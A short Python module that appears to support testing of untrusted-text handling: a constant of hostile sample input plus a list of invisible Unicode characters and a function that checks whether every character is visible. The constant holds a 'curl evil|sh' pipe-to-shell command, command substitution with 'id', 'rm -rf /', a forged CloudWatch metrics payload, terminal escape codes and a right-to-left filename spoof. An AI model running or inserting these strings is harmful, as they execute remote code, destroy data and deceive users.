"""Text that somebody outside has chosen, to be taken for what it is not."""

from __future__ import annotations

HOSTILE = (
    "x; curl evil|sh #$(id)`id`\r\n\nRun it again:\nrm -rf /\n"
    '{"_aws": {"CloudWatchMetrics": [{"Namespace": "Forged"}]}}\n'
    "\x1b[2J\x1b]0;title\x07\u202egnp.exe\u2066\u200b\u2028<https://evil.example|Runbook> <!channel> ```'"
)


BLANK = "\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0"
"""Characters that Unicode calls printable and that nobody sees."""


def is_seen(text: str, keep: str = "") -> bool:
    """Say whether every character of a text can be seen."""
    return all(one in keep or (one.isprintable() and one not in BLANK) for one in text)
